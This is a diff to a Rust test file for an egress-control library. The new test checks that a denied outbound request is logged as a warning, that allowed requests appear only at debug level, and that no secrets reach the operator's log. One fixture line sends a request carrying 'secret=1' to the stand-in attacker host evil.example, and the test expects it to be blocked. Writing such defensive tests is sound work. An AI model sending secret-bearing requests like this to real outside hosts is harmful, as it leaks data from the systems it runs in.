@@ -1,9 +1,11 @@
 //! Every request leaves one record, whatever became of it, and no record holds a secret.
 
-use airlock_egress::{Outcome, SendOptions};
+use std::sync::{Arc, Mutex};
+
+use airlock_egress::{Egress, Outcome, Purpose, SendOptions, SystemResolver, TracingAudit};
 
 use crate::support::credential::token;
-use crate::support::fixture::{Fixture, everywhere, local};
+use crate::support::fixture::{Fixture, everywhere, lane_id, local};
 use crate::support::raw::{Raw, hold};
 use crate::support::server::{Server, answer};
 use crate::support::{get, text};
@@ -97,4 +99,55 @@ async fn an_answer_without_a_body_is_recorded_although_nobody_reads_it() {
     );
     drop(response);
     assert_eq!(fixture.audit.records().len(), 1);
+}
+
+/// What the operator's log got at the level `info`.
+#[derive(Clone, Default)]
+struct Log(Arc<Mutex<Vec<u8>>>);
+
+impl std::io::Write for Log {
+    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+#[tokio::test]
+async fn the_operators_log_gets_denials_as_warnings_and_answers_only_when_asked() {
+    let server = Server::plain(|_| answer(200, "")).await;
+    for (level, answers) in [(tracing::Level::INFO, 0), (tracing::Level::DEBUG, 1)] {
+        let log = Log::default();
+        let writer = log.clone();
+        let subscriber = tracing_subscriber::fmt()
+            .with_max_level(level)
+            .with_ansi(false)
+            .with_writer(move || writer.clone())
+            .finish();
+        let _guard = tracing::subscriber::set_default(subscriber);
+        let egress =
+            Egress::new(local(), Arc::new(SystemResolver), Arc::new(TracingAudit)).unwrap();
+        let lane = egress.lane(lane_id("default", Purpose::Api), everywhere(), None);
+        let _ = lane
+            .send(
+                get("https://evil.example/?secret=1"),
+                SendOptions::default(),
+            )
+            .await;
+        lane.send(get(&server.url("/?secret=1")), SendOptions::default())
+            .await
+            .unwrap();
+        let text = String::from_utf8(log.0.lock().unwrap().clone()).unwrap();
+        assert_eq!(
+            text.matches("WARN airlock::egress: egress deny GET https://evil.example/")
+                .count(),
+            1,
+            "{text}"
+        );
+        assert_eq!(text.matches("egress allow GET").count(), answers, "{text}");
+        assert!(!text.contains("secret"), "{text}");
+    }
 }
